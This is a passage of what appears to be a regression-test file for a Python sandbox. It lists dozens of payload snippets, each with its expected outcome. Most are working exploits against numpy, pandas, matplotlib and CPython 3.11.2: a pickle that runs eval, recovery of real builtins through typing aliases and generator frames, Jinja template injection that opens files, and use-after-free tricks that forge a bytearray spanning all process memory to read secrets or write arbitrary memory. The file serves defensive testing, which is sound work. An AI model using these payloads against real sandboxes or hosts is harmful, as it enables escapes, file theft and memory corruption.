            expr = ("__import__('numpy').frombuffer(__import__('os').read(__import__('os')"
                    ".open(%r, 0), 200), 'u1')" % canary_data).encode()
            pickle = (b"\\x80\\x04cbuiltins\\neval\\n" + b"X" + len(expr).to_bytes(4, "little")
                      + expr + b"\\x85R.")
            got = load(io.BytesIO(pickle), allow_pickle=True)
            return bytes(np.asarray(got).tolist()).decode()
        """, off={DENIED, EXCEPTION}),   # np.load wraps the OSError in UnpicklingError
    Payload("numpy-ma-factory-fromfile", """
        import numpy as np
        def main(canary_tmp):
            f = type(np.ma.arange)("fromfile", "x", "y")
            return bytes(np.asarray(f(canary_tmp, dtype=np.uint8)).tolist()).decode()
        """, off={DENIED}),
    Payload("numpy-ma-frommethod-name-via-update-wrapper", """
        import functools
        import typing
        import numpy as np
        def main():
            f = type(np.ma.all)("all")
            functools.update_wrapper(f, typing.NewType("fromfile", int))
            return repr(f(np.ma.arange(3)))
        """, on={GUARD}, off={EXCEPTION}),
    # a dataclass of the code's mixed into a library class: dataclasses.
    # replace reads a private field by name: the native renderer (fix-4)
    Payload("dataclass-private-field-native-renderer", """
        import dataclasses
        from matplotlib.backends.backend_agg import RendererAgg
        @dataclasses.dataclass(repr=False, eq=False)
        class Fields:
            _renderer: object = None
        class Grab(RendererAgg, Fields):
            def __init__(self, width=10, height=10, dpi=72, _renderer=None, box=None):
                if _renderer is not None:
                    box.append(_renderer)
                else:
                    super().__init__(width, height, dpi)
        def main():
            box = []
            dataclasses.replace(Grab(), box=box)
            return type(box[0]).__name__
        """, off={OK}),
    Payload("dataclass-private-field-blockmanager", """
        import dataclasses
        import pandas as pd
        @dataclasses.dataclass(init=False, repr=False, eq=False)
        class Fields:
            _mgr: object
        class E(Fields, pd.DataFrame):
            pass
        def main():
            return type(dataclasses.astuple(E({"a": [1]}))[0]).__name__
        """, off={OK}),
    # matplotlib helpers that read or list files by path (fix-5)
    Payload("mpl-get-sample-data-path", """
        import matplotlib.cbook as cbook
        def main(canary_data):
            return cbook.get_sample_data(canary_data, asfileobj=True).read(200).decode()
        """, off={DENIED}),
    Payload("mpl-list-fonts-lists-a-directory", """
        import matplotlib.font_manager as fm
        def main():
            return fm.list_fonts("/usr/lib/python3/dist-packages/numpy", ["py"])[:3]
        """, off={OK}),
    Payload("mpl-savefig-backend-imports-any-module", """
        import io
        import matplotlib.pyplot as plt
        def main():
            plt.figure().savefig(io.BytesIO(), format="png", backend="module://os")
        """, off={EXCEPTION}),
    Payload("numpy-add-newdoc-imports-any-module", """
        import numpy as np
        def main():
            np.add_newdoc("os", "system", "x")
        """, off={OK, EXCEPTION}),
    # an eighth review (rev5) of the day's guards: the resize caller check
    # trusted any pandas frame (rolling().apply passes kwargs= to the
    # code's callable), the matplotlib file-read check trusted the caller
    # frame (Series.map(cbook.to_filehandle) has pandas as the caller)
    Payload("numpy-resize-refcheck-false-through-rolling-apply-kwargs", """
        import numpy as np
        import pandas as pd
        import functools
        import struct
        def main():
            secret = b"secret-bytes-in-another-object"
            a = np.zeros(4096, dtype="<u8")
            v = a[:]
            try:
                pd.Series([0.0]).rolling(0, min_periods=0).apply(
                    functools.partial(np.ndarray.resize, a), raw=True, kwargs={"refcheck": False})
            except TypeError:
                pass                         # resize returned None, not a number: it ran
            marker = "m"
            lst = [marker] * 3900
            hits = [i for i in range(4096) if int(v[i]) == id(marker)]
            if len(hits) < 3000:
                return "list not over the freed buffer: %d" % len(hits)
            i = hits[0]
            fake = struct.pack("<QQqqQQQ", 1 << 30, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
            v[i] = id(fake) + 32
            mem = lst[0]
            addr = id(secret) + 32
            out = bytes(mem[addr:addr + len(secret)])
            v[i] = id(marker)
            return out.decode()
        """, on={GUARD}, off={OK, CRASH, EXCEPTION}),
    Payload("matplotlib-to-filehandle-through-series-map", """
        import matplotlib.cbook as cbook
        import pandas as pd
        def main():
            # a file the OS layer shows (Python's own source): the Python layer
            # must refuse the path before the OS layer is asked
            fh = pd.Series(["/usr/lib/python3.11/os.py"]).map(cbook.to_filehandle).iloc[0]
            return fh.read()[:200]
        """, on={GUARD, DENIED}, off={DENIED, OK, EXCEPTION}),
    Payload("matplotlib-open-file-cm-through-series-apply", """
        import matplotlib.cbook as cbook
        import pandas as pd
        def main():
            cm = pd.Series(["/usr/lib/python3.11/os.py"]).apply(cbook.open_file_cm).iloc[0]
            with cm as fh:
                return fh.read()[:200]
        """, on={GUARD, DENIED}, off={DENIED, OK, EXCEPTION}),
    # review 6 (exceptions, warnings, logs, records): regression payloads for
    # what held.  A library's exception being handled while it calls the
    # code's object (sys.exc_info() in __eq__/__hash__/__str__/__call__...)
    # must carry no module, real builtin or frame in its args or attributes
    Payload("exc-info-in-library-callbacks-holds-no-module", """
        import sys
        import pandas as pd
        import numpy as np
        import matplotlib.pyplot as plt
        found = []
        def spy():
            e = sys.exc_info()[1]
            if e is not None:
                for v in list(e.args) + [getattr(e, n, None) for n in dir(e) if not n.startswith("_")]:
                    if callable(getattr(v, "open", None)):
                        found.append(v)
        class Spy:
            def __eq__(self, o): spy(); return False
            def __hash__(self): spy(); return 1
            def __len__(self): spy(); raise TypeError("no")
            def __iter__(self): spy(); raise TypeError("no")
            def __getitem__(self, k): spy(); raise KeyError(k)
            def __str__(self): spy(); return "s"
            def __repr__(self): spy(); return "s"
            def __call__(self, *a, **k): spy(); return 1
        def main(canary_tmp):
            for f in (lambda: pd.Series([Spy(), Spy()]).sort_values(),
                      lambda: pd.DataFrame({"a": [1, 2], "b": [1, 2]}).groupby("a").apply(Spy()),
                      lambda: pd.DataFrame({"a": [1]}).agg(Spy()),
                      lambda: pd.Series([1]).map(Spy()),
                      lambda: pd.to_datetime([Spy()]),
                      lambda: np.unique(np.array([Spy(), Spy()], dtype=object)),
                      lambda: plt.plot([Spy(), Spy()]),
                      lambda: pd.DataFrame({"a": [1]}).style.format(Spy()).to_html()):
                try:
                    f()
                except Exception:
                    pass
            return found[0].open(canary_tmp).read()
        """, on={EXCEPTION}, off={EXCEPTION}),
    # a public contextmanager hands out its library generator (.gen); its
    # frame is refused by name wherever a name is looked up from a string
    Payload("contextmanager-generator-frame-via-pandas-expression", """
        import pandas as pd
        import matplotlib.pyplot as plt
        def main(canary_tmp):
            g = plt.style.context("default").gen
            df = pd.DataFrame({"a": [1]})
            glob = df.eval("@g.gi_" + "frame.f_" + "globals", engine="python")
            return glob["__buil" + "tins__"]["open"](canary_tmp).read()
        """, on={GUARD}, off={DENIED, EXCEPTION}),
    # exceptions the libraries raise keep plain values (strings, dtypes,
    # ufuncs, the library's own instance): none is a module
    Payload("library-exception-attributes-hold-no-module", """
        import json, re
        import numpy as np
        import pandas as pd
        import matplotlib
        import matplotlib.pyplot as plt
        def main(canary_tmp):
            seen = []
            for f in (lambda: np.add(np.array(["a"]), np.array([1.0])),
                      lambda: np.sum(np.zeros(3), axis=5),
                      lambda: pd.api.extensions.ExtensionArray().isna(),
                      lambda: pd.DataFrame({"a": [1]}).query("b > 1"),
                      lambda: matplotlib.rcParams["nope"],
                      lambda: json.loads("{"), lambda: re.compile("("),
                      lambda: plt.imread("/etc/" + "passwd"),
                      lambda: plt.figure().savefig("x.png", backend="module://os"),
                      lambda: np.nonexistent):
                try:
                    f()
                except Exception as e:
                    seen += list(e.args) + [getattr(e, n, None) for n in dir(e) if not n.startswith("_")]
            for v in seen:
                if callable(getattr(v, "open", None)) and callable(getattr(v, "read", None)):
                    return v.read(v.open(canary_tmp, 0), 200).decode()
            raise LookupError("no module in any library exception")
        """, on={EXCEPTION}, off={EXCEPTION, DENIED}),
    # an eighth review (rev7), pandas' and numpy's native loops: rolling() with
    # the code's BaseIndexer subclass (pandas checks only the length of the
    # start/end arrays; its Cython window functions read values[start:end]
    # unchecked), and numpy's loops over Python objects that keep an element's
    # pointer across its comparison (a cmp_to_key key runs the code's function,
    # which empties the array: the pointer is freed, then used)
    Payload("rolling-baseindexer-end-past-data", """
        import numpy as np
        import pandas as pd
        from pandas.api.indexers import BaseIndexer
        class Far(BaseIndexer):
            def get_window_bounds(self, num_values=0, min_periods=None, center=None,
                                  closed=None, step=None):
                return (np.zeros(num_values, dtype="i8"),
                        np.full(num_values, 1 << 40, dtype="i8"))
        def main():
            return pd.Series(np.arange(4.0)).rolling(Far(window_size=1)).sum().tolist()
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("rolling-baseindexer-reads-heap", """
        import numpy as np
        import pandas as pd
        from pandas.api.indexers import BaseIndexer
        class Near(BaseIndexer):
            def get_window_bounds(self, num_values=0, min_periods=None, center=None,
                                  closed=None, step=None):
                return (np.zeros(num_values, dtype="i8"),
                        np.full(num_values, 1 << 16, dtype="i8"))
        def main():
            s = pd.Series(np.arange(8.0))
            r = s.rolling(Near(window_size=1), min_periods=0)
            return [repr(x) for x in (r.median().iloc[0], r.max().iloc[0], r.sum().iloc[0])]
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("rolling-baseindexer-negative-start", """
        import numpy as np
        import pandas as pd
        from pandas.api.indexers import BaseIndexer
        class Before(BaseIndexer):
            def get_window_bounds(self, num_values=0, min_periods=None, center=None,
                                  closed=None, step=None):
                return (np.full(num_values, -(1 << 40), dtype="i8"),
                        np.full(num_values, 2, dtype="i8"))
        def main():
            s = pd.Series(np.arange(8.0))
            return repr(s.rolling(Before(window_size=1), min_periods=0).mean().tolist())
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-object-heapsort-cmp-to-key-frees-pivot", """
        import functools
        import numpy as np
        def main():
            holder = {"n": 0}
            def cmp(a, b):
                holder["n"] += 1
                if holder["n"] == 3:
                    arr = holder["a"]
                    for i in range(len(arr)):
                        arr[i] = key(1000 + i)
                return (a > b) - (a < b)
            key = functools.cmp_to_key(cmp)
            arr = np.empty(64, dtype=object)
            for i in range(64):
                arr[i] = key(i * 7 % 64)
            holder["a"] = arr
            arr.sort(kind="heapsort")
            seen = {}
            dup = None
            for x in arr:
                if id(x) in seen:
                    dup = x
                seen[id(x)] = 1
            seen = None
            holder.clear()
            arr[:] = None
            junk = [bytes(15 - len(str(i))) + str(i).encode() for i in range(20000)]
            return [type(dup).__name__, len(junk)]
        """, on={OK, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-object-maximum-reduce-frees-element", """
        import functools
        import numpy as np
        def main():
            holder = {}
            def cmp(a, b):
                arr = holder["a"]
                for i in range(len(arr)):
                    arr[i] = None
                return (a > b) - (a < b)
            key = functools.cmp_to_key(cmp)
            arr = np.empty(64, dtype=object)
            for i in range(64):
                arr[i] = key(i)
            holder["a"] = arr
            m = np.maximum.reduce(arr)
            holder.clear()
            junk = [bytes(15 - len(str(i))) + str(i).encode() for i in range(20000)]
            return type(m).__name__
        """, on={OK, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-object-max-method-frees-element", """
        import functools
        import numpy as np
        def main():
            holder = {}
            def cmp(a, b):
                arr = holder["a"]
                for i in range(len(arr)):
                    arr[i] = None
                return (a > b) - (a < b)
            key = functools.cmp_to_key(cmp)
            arr = np.array([key(i) for i in range(64)] + [None], dtype=object)[:64]
            holder["a"] = arr
            m = arr.max()
            holder.clear()
            junk = [bytes(15 - len(str(i))) + str(i).encode() for i in range(20000)]
            return type(m).__name__
        """, on={OK, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    # a thirteenth review (rev13), the use-after-free class beyond numpy's object
    # loops and sorts: numpy's array coercion reads a list's item storage
    # (PySequence_Fast_ITEMS) without references while asking each element for
    # its __len__/__getitem__/__str__ (fix-2); pandas' PyObjectHashTable keeps
    # borrowed key pointers into the array it was given (duplicated, isin, an
    # Index's engine) while calling the keys' __eq__ (fix-1)
    Payload("numpy-array-coercion-len-clears-list", """
        import numpy as np
        class Row:
            def __init__(self, box):
                self.box = box
            def __len__(self):
                if self.box:
                    self.box.pop().clear()
                return 2
            def __getitem__(self, i):
                if i >= 2:
                    raise IndexError(i)
                return i
        def main():
            box = []
            rows = [Row(box) for i in range(64)]
            box.append(rows)
            a = np.array(rows)
            junk = [bytearray(48) for i in range(2000)]
            return [list(a.shape), len(junk)]
        """, on={OK, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-array-coercion-str-clears-list", """
        import numpy as np
        class Name:
            def __init__(self, box):
                self.box = box
            def __str__(self):
                if self.box:
                    self.box.pop().clear()
                return "name"
        def main():
            box = []
            names = [Name(box) for i in range(64)]
            box.append(names)
            a = np.array(names, dtype=str)
            junk = [bytearray(48) for i in range(2000)]
            return [a.tolist()[:2], len(junk)]
        """, on={OK, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("pandas-duplicated-eq-frees-keys", """
        import numpy as np
        import pandas as pd
        class Key:
            def __init__(self, v, box):
                self.v = v
                self.box = box
            def __hash__(self):
                return 1
            def __eq__(self, other):
                self.box["n"] += 1
                if self.box["n"] == 5:
                    a = self.box["a"]
                    for i in range(len(a)):
                        a[i] = None
                return isinstance(other, Key) and self.v == other.v
        def main():
            box = {"n": 0, "a": None}
            a = np.empty(64, dtype=object)
            for i in range(64):
                a[i] = Key(i % 7, box)
            s = pd.Series(a, copy=False)
            box["a"] = a
            d = s.duplicated()
            junk = [bytearray(48) for i in range(2000)]
            return [int(d.sum()), len(junk)]
        """, on={OK, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("pandas-isin-eq-frees-keys", """
        import numpy as np
        import pandas as pd
        class Key:
            def __init__(self, v, box):
                self.v = v
                self.box = box
            def __hash__(self):
                return 1
            def __eq__(self, other):
                self.box["n"] += 1
                if self.box["n"] == 5:
                    a = self.box["a"]
                    for i in range(len(a)):
                        a[i] = None
                return isinstance(other, Key) and self.v == other.v
        def main():
            box = {"n": 0, "a": None}
            values = np.empty(64, dtype=object)
            for i in range(64):
                values[i] = Key(2 * i, box)
            s = pd.Series([Key(i, box) for i in range(64)])
            box["a"] = values
            r = s.isin(values)
            junk = [bytearray(48) for i in range(2000)]
            return [int(r.sum()), len(junk)]
        """, on={OK, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("pandas-index-contains-eq-frees-keys", """
        import numpy as np
        import pandas as pd
        class Key:
            def __init__(self, v, box):
                self.v = v
                self.box = box
            def __hash__(self):
                return 1
            def __eq__(self, other):
                self.box["n"] += 1
                if self.box["n"] == 5:
                    a = self.box["a"]
                    for i in range(len(a)):
                        a[i] = None
                return isinstance(other, Key) and self.v == other.v
        def main():
            box = {"n": 0, "a": None}
            a = np.empty(64, dtype=object)
            for i in range(64):
                a[i] = Key(i, box)
            idx = pd.Index(a, copy=False)
            box["a"] = a
            found = Key(5, box) in idx
            junk = [bytearray(48) for i in range(2000)]
            return [found, len(junk)]
        """, on={OK, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("pandas-index-engine-array-rewritten", """
        import numpy as np
        import pandas as pd
        class Key:
            def __init__(self, v):
                self.v = v
            def __hash__(self):
                return 1
            def __eq__(self, other):
                return isinstance(other, Key) and self.v == other.v
        def main():
            a = np.empty(64, dtype=object)
            for i in range(64):
                a[i] = Key(i)
            idx = pd.Index(a, copy=False)
            first = idx.get_loc(Key(3))
            a[:] = None
            junk = [bytearray(48) for i in range(2000)]
            return [first, idx.get_loc(Key(5)), len(junk)]
        """, on={OK, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    # typing's _GenericAlias.__reduce__ looks its stored _name up in typing's
    # globals; copy.copy() calls the result: the real builtins (fix-3)
    Payload("typing-alias-name-real-builtins", """
        import typing
        import copy
        def real_builtin(name):
            return copy.copy(type(typing.List[int])(list, (name,), name="__builtins__"))
        def main():
            os = real_builtin("__import__")("os")
            return [os.getcwd(), repr(real_builtin("open"))]
        """, off={OK}),
    Payload("typing-alias-name-via-update-wrapper", """
        import typing
        import functools
        import copy
        class Src:
            def __init__(self):
                self._name = "__builtins__"
        def main():
            alias = type(typing.List[int])(list, ("eval",))
            functools.update_wrapper(alias, Src())
            return repr(copy.copy(alias))
        """, off={OK}),
    # update_wrapper's __dict__ copy wrote private attributes of library
    # objects: an Index's _cache shared with a longer index gives positions
    # pandas' take reads unchecked (a heap read) (fix-4)
    Payload("update-wrapper-index-engine-heap-read", """
        import functools
        import numpy as np
        import pandas as pd
        class Src:
            def __init__(self, cache):
                self._cache = cache
        def main():
            shared = {}
            a = pd.Index(np.arange(100000, dtype=np.int64))
            functools.update_wrapper(a, Src(shared))
            a.get_loc(5)
            s = pd.Series(np.array([1.5, 2.5]), index=pd.Index(np.array([0, 1], dtype=np.int64)))
            functools.update_wrapper(s.index, Src(shared))
            return [float(x).hex() for x in s.reindex([0, 1, 3, 50, 3000]).values]
        """, off={OK, EXCEPTION}),
    Payload("update-wrapper-private-write-axes", """
        import functools
        import matplotlib.pyplot as plt
        class Src:
            def __init__(self):
                self._children = "x"
        def main():
            fig, ax = plt.subplots()
            functools.update_wrapper(ax, Src())
            return repr(ax.get_children()[0])
        """, off={OK}),
    # a class of the code's deriving from a library class defined private
    # hooks the library calls with its internals: BlockManager, whose
    # reindex_indexer reads memory unchecked (fix-2)
    Payload("own-subclass-constructor-blockmanager-heap-read", """
        import pandas as pd
        import numpy as np
        got = []
        def grab(*args, **kwargs):
            got.append(args[0])
            return pd.DataFrame({"a": [1]})
        class D(pd.DataFrame):
            @property
            def _constructor(self):
                return grab
        def main():
            D({"a": [7.0, 8.0]}).head(2)
            mgr = got[0]
            idx = np.array([0, 1, 2, 3, 50, 200], dtype=np.intp)
            new = mgr.reindex_indexer(pd.Index(range(len(idx))), idx, axis=1, allow_dups=True)
            return [type(mgr).__name__] + [float(x).hex() for x in new.blocks[0].values.ravel()]
        """, off={OK, EXCEPTION}),
    Payload("own-subclass-mgr-property-setter", """
        import pandas as pd
        got = []
        def getm(self):
            return got[-1]
        def setm(self, v):
            got.append(v)
        class D(pd.DataFrame):
            _mgr = property(getm, setm)
        def main():
            D({"a": [1, 2]})
            return type(got[0]).__name__
        """, off={OK}),
    # Axes.ArtistList calls getattr(axes, add_name)(item) with both from its
    # constructor: any method of any object with _children, __setstate__
    # included (the Axes took the code's dict as its __dict__) (fix-1, fix-2)
    Payload("artistlist-setstate-aliases-axes-dict", """
        import matplotlib.pyplot as plt
        def main():
            fig, ax = plt.subplots()
            st = {"_shared_axes": {}, "_twinned_axes": None, "_children": []}
            type(ax.images)(ax, "x", "__setstate__").insert(0, st)
            return sorted(st)
        """, off={OK}),
    Payload("artistlist-setstate-native-renderer", """
        import matplotlib.pyplot as plt
        from matplotlib.axes import Axes
        from matplotlib.backends.backend_agg import RendererAgg
        class Mid(RendererAgg):
            def make(self, n):
                super().__init__(n, n, 72)
        class R(Axes, Mid):
            _children = []
            def __init__(self):
                pass
        def main():
            fig, ax = plt.subplots()
            r = R()
            st = {"_shared_axes": {}, "_twinned_axes": None, "_children": []}
            type(ax.images)(r, "x", "__setstate__").insert(0, st)
            r.make(10)
            return type(st["_renderer"]).__module__
        """, off={OK}),
    # rev10: CPython 3.11.2 memory bugs reached by re-entering C code from the
    # code's own special methods (fixed upstream after 3.11.2, or still open).
    # A vulnerable build crashes (SIGSEGV) or, for the fake-bytearray payloads,
    # writes to address 8 once the exploit works (so it crashes too).
    # the sandbox's collections.OrderedDict is a dict subclass: a key's __eq__
    # that empties it ends in a KeyError, not in freed memory
    Payload("ordereddict-delitem-eq-clears", """
        from collections import OrderedDict
        def main():
            class Original:
                def __hash__(self):
                    return 1
            class Trigger:
                def __hash__(self):
                    return 1
                def __eq__(self, other):
                    od.clear()
                    return True
            od = OrderedDict()
            od[Original()] = None
            del od[Trigger()]
            return "held"
        """, on={EXCEPTION, OK}, off={CRASH, OK}),
    Payload("ordereddict-pop-eq-clears", """
        import typing
        def main():
            class Original:
                def __hash__(self):
                    return 1
            class Trigger:
                def __hash__(self):
                    return 1
                def __eq__(self, other):
                    od.clear()
                    return True
            od = typing.OrderedDict()
            od[Original()] = None
            od.pop(Trigger(), 5)
            return "held"
        """, on={GUARD}, off={CRASH, OK}),
    Payload("ordereddict-move-to-end-eq-clears", """
        import collections
        def main():
            class Original:
                def __hash__(self):
                    return 1
            class Trigger:
                def __hash__(self):
                    return 1
                def __eq__(self, other):
                    od.clear()
                    return True
            od = collections.OrderedDict()
            od[Original()] = None
            od.move_to_end(Trigger())
            return "held"
        """, on={EXCEPTION, OK}, off={CRASH, OK}),
    Payload("itertools-pairwise-reentrant-generator", """
        from itertools import pairwise
        def main():
            box = []
            def g():
                yield next(box[0])
            for _ in range(10000):
                try:
                    box.clear()
                    box.append(pairwise(g()))
                    next(box[0])
                except Exception:
                    pass
            return "held"
        """, on={OK}, off={CRASH, OK}),
    Payload("itertools-count-radd-reenters-fake-bytearray", """
        from itertools import count
        def main():
            armed = [True]
            box = []
            class Step(float):
                def __radd__(self, other):
                    if armed[0]:
                        armed[0] = False
                        next(box[0])
                    return other + 1
            p = lambda v: v.to_bytes(8, "little")
            fake = p(1 << 40) + p(id(bytearray)) + p(1 << 62) + p((1 << 62) + 1) + p(0) + p(0) + p(0)
            pad = fake + b"\\0" * (165 - len(fake))
            box.append(count(1 << 1000, Step(1.0)))
            val = next(box[0])
            spray = []
            for i in range(20000):
                spray.append(bytearray(pad))
                if type(val) is bytearray:
                    val[8] = 1          # a write to address 8: all memory is readable and writable
            return "held"
        """, on={OK}, off={CRASH, OK}),
    Payload("bytearray-join-separator-freed-by-next", """
        def main():
            sep = bytearray(b"S" * 4000)
            class It:
                def __init__(self):
                    self.i = 0
                def __iter__(self):
                    return self
                def __next__(self):
                    self.i += 1
                    if self.i == 1:
                        return b"["
                    if self.i == 2:
                        sep.clear()
                        return b"]"
                    raise StopIteration
            r = sep.join(It())
            if r != b"[" + b"S" * 4000 + b"]":
                raise ValueError("freed separator read: " + r[:64].hex())
            return "held"
        """, on={OK}, off={EXCEPTION, CRASH, OK}),
    Payload("list-ordering-notimplemented-fake-bytearray", """
        def main():
            keep = []
            l2 = []
            class Evil:
                def __lt__(self, o):
                    l2.clear()
                    return NotImplemented
            class V(bytearray):
                def __gt__(self, o):
                    keep.append(self)
                    return False
            p = lambda v: v.to_bytes(8, "little")
            fake = p(1 << 40) + p(id(bytearray)) + p(1 << 62) + p((1 << 62) + 1) + p(0) + p(0) + p(0)
            pads = [fake + b"\\0" * k for k in range(0, 80, 8)]
            spray = []
            l2.append(V(b"victim"))
            [Evil()] < l2
            addr = id(keep[0])
            for pad in pads:
                for k in range(8):
                    b = bytes(bytearray(pad))
                    spray.append(b)
                    if id(b) + 32 == addr:
                        keep[0][8] = 1      # a write to address 8
            return "held"
        """, on={OK}, off={CRASH, OK}),
    Payload("list-ordering-notimplemented-crash", """
        def main():
            l2 = []
            class Evil:
                def __lt__(self, o):
                    l2.clear()
                    return NotImplemented
            class V:
                def __gt__(self, o):
                    return self.missing_attribute
            for i in range(200):
                l2.append(V())
                try:
                    [Evil()] < l2
                except AttributeError:
                    pass
            return "held"
        """, on={OK}, off={CRASH, OK}),
    Payload("deque-index-eq-clears-notimplemented", """
        from collections import deque
        def main():
            keep = []
            d = deque()
            class A(bytearray):
                def __eq__(self, o):
                    d.clear()
                    return NotImplemented
            class Catch:
                def __eq__(self, o):
                    keep.append(o)
                    return False
            d.append(A(b"victim"))
            try:
                d.index(Catch())
            except RuntimeError:
                pass
            spray = [bytes(bytearray(b"x" * n)) for n in range(48, 64) for k in range(8)]
            return [len(keep), bytes(keep[0])[:6].hex()]
        """, on={OK}, off={CRASH, OK, EXCEPTION}),
    # review rev9: library code run on an object the code chooses, and the
    # caller-frame checks (_library_only, _LibraryOnly) passed by a library
    # frame in between
    Payload("mpl-draw-image-through-pandas-apply", """
        import numpy as np
        import pandas as pd
        import matplotlib.pyplot as plt
        def main():
            fig = plt.figure(figsize=(1, 1), dpi=100)
            r = fig.canvas.get_renderer()
            img = np.zeros((40, 40, 1), np.uint8)      # 1600 bytes; draw_image reads 6400
            pd.Series([r.new_gc()], dtype=object).apply(r.draw_image, args=(0.0, 0.0, img))
            leaked = np.asarray(r.buffer_rgba())[60:100, 0:40].reshape(-1, 4)
            return bytes(leaked[:, :3].reshape(-1).tolist()).hex()
        """, on={GUARD}, off={OK, CRASH, EXCEPTION, GUARD}),
    Payload("mpl-draw-image-through-pandas-crash", """
        import numpy as np
        import pandas as pd
        import matplotlib.pyplot as plt
        def main():
            r = plt.figure(figsize=(1, 1), dpi=100).canvas.get_renderer()
            img = np.zeros((2, 4000000, 1), np.uint8)   # row 1 is read 16 MB in
            pd.Series([r.new_gc()], dtype=object).apply(r.draw_image, args=(0.0, 0.0, img))
        """, on={GUARD}, off={OK, CRASH, EXCEPTION, MEMORY, GUARD}),
    Payload("mpl-draw-image-through-partial-map", """
        import functools
        import numpy as np
        import pandas as pd
        import matplotlib.pyplot as plt
        def main():
            r = plt.figure(figsize=(1, 1), dpi=100).canvas.get_renderer()
            draw = functools.partial(r.draw_image, r.new_gc(), 0.0, 0.0)
            pd.Series([np.zeros((2, 4000000, 1), np.uint8)], dtype=object).map(draw)
        """, on={GUARD}, off={OK, CRASH, EXCEPTION, MEMORY, GUARD}),
    Payload("styler-environment-through-ndframe-getattr", """
        import pandas as pd
        from pandas.io.formats.style import Styler
        class B(pd.DataFrame, Styler):
            pass
        def main(canary_tmp):
            # _LibraryOnly refuses the code's read; Python then calls
            # NDFrame.__getattr__, whose object.__getattribute__ is pandas' frame
            env = B({"x": [1]}).env
            return env.from_string(
                "{{ lipsum.__globals__.__builtins__.open(path).read() }}").render(path=canary_tmp)
        """, on={GUARD}, off={DENIED, EXCEPTION}),
    Payload("jinja-template-class-from-styler", """
        import pandas as pd
        from pandas.io.formats.style import Styler
        class B(pd.DataFrame, Styler):
            pass
        def main(canary_tmp):
            template = type(B({"x": [1]}).template_html)
            return template("{{ lipsum.__globals__.os.listdir('/') }}").render()
        """, on={GUARD}, off={DENIED, EXCEPTION, OK}),
    Payload("pandas-unbound-method-on-own-object", """
        import numpy as np
        import pandas as pd
        class Fake:
            def __init__(self):
                self._codes = np.arange(4, 64, dtype=np.intp)
                self.codes = self._codes
                self.categories = pd.Index(np.arange(4, dtype=np.int64))
                self.dtype = np.dtype("O")
            def isna(self):
                return np.zeros(60, bool)
        def main():
            # take_nd reads 60 words past a 4-word array: heap pointers
            return [hex(int(v) & (2**64 - 1)) for v in pd.Categorical.astype(Fake(), "int64")]
        """, on={GUARD}, off={OK, CRASH, EXCEPTION}),
    Payload("pandas-unbound-method-crash", """
        import numpy as np
        import pandas as pd
        class Fake:
            def __init__(self):
                self._codes = np.array([1 << 40], dtype=np.intp)
                self.codes = self._codes
                self.categories = pd.Index(np.arange(4, dtype=np.int64))
                self.dtype = np.dtype("O")
            def isna(self):
                return np.zeros(1, bool)
        def main():
            return len(pd.Categorical.astype(Fake(), "int64"))
        """, on={GUARD}, off={CRASH, EXCEPTION}),
    Payload("pandas-unbound-method-via-methodcaller", """
        import operator
        import numpy as np
        import pandas as pd
        class Fake:
            def __init__(self):
                self._codes = np.array([1 << 40], dtype=np.intp)
                self.codes = self._codes
                self.categories = pd.Index(np.arange(4, dtype=np.int64))
                self.dtype = np.dtype("O")
            def isna(self):
                return np.zeros(1, bool)
        def main():
            return len(operator.methodcaller("astype", Fake(), "int64")(pd.Categorical))
        """, on={GUARD}, off={CRASH, EXCEPTION}),
    Payload("pandas-subclass-public-override", """
        import numpy as np
        import pandas as pd
        class Fake(pd.Categorical):
            @property
            def categories(self):          # 4 categories for codes up to 63
                return pd.Index(np.arange(4, dtype=np.int64))
        def main():
            out = Fake(pd.Categorical(np.arange(64))).astype("int64")
            return [hex(int(v) & (2**64 - 1)) for v in out]
        """, on={GUARD}, off={OK, CRASH, EXCEPTION}),
    # gh-142732 (open upstream): islice borrowed the map it calls; the map's function
    # re-entered and drained the islice, which freed the map, refilled by a bytes
    # object: a fake bytearray over all memory. The sandbox's islice is a generator
    Payload('itertools-islice-reentrant-fake-bytearray', """
        import itertools
        def main():
            p = lambda v: (v % (1 << 64)).to_bytes(8, "little")
            box = [None, 0]
            spray = []
            hit = []
            def ident(x):
                return x
            # fake objects live in bytes objects' data (at id(b) + 32)
            fba = bytes(p(1 << 40) + p(id(bytearray)) + p(1 << 62) + p((1 << 62) + 1) + p(0) + p(0) + p(0))
            frep = bytes(p(1 << 40) + p(id(itertools.repeat)) + p(id(fba) + 32) + p(-1))
            ftup = bytes(p(1 << 40) + p(id(tuple)) + p(1) + p(id(frep) + 32))
            src = bytearray(p(id(ftup) + 32) + p(id(ident))[:7])
            def cb(x):
                if box[0] is not None:
                    sl = box[0]; box[0] = None
                    for _ in sl:            # drain: islice frees the map it borrowed
                        pass
                    k = 0
                    while k < 50:
                        b = bytes(src)      # 15 bytes: the freed map's size class
                        spray.append(b)
                        if id(b) + 16 == box[1]:
                            hit.append(k)
                            break
                        k += 1
                return x
            for attempt in range(20):
                m = map(cb, [1, 2, 3, 4, 5])
                box[1] = id(m)
                sl = itertools.islice(m, 1, None, 2)
                box[0] = sl
                del m
                mem = next(sl, None)
                if hit:
                    break
            if not hit:
                return "no reuse"
            secret = "top secret string in another object"
            target = b"immutable-bytes!"
            mem[id(target) + 32] = ord("I")
            return [type(mem).__name__, len(mem) > 2**61,
                    bytes(mem[id(secret) + 48:id(secret) + 48 + len(secret)]), target]
        """, on={EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    # the same, without refilling: SIGSEGV on a vulnerable build
    Payload('itertools-islice-reentrant-crash', """
        import itertools, sys
        def main():
            which = 'islice_step'
            box = [None]
            state = {"armed": True}
            def cb(x):
                if state["armed"] and box[0] is not None:
                    state["armed"] = False
                    try:
                        for _ in range(100):
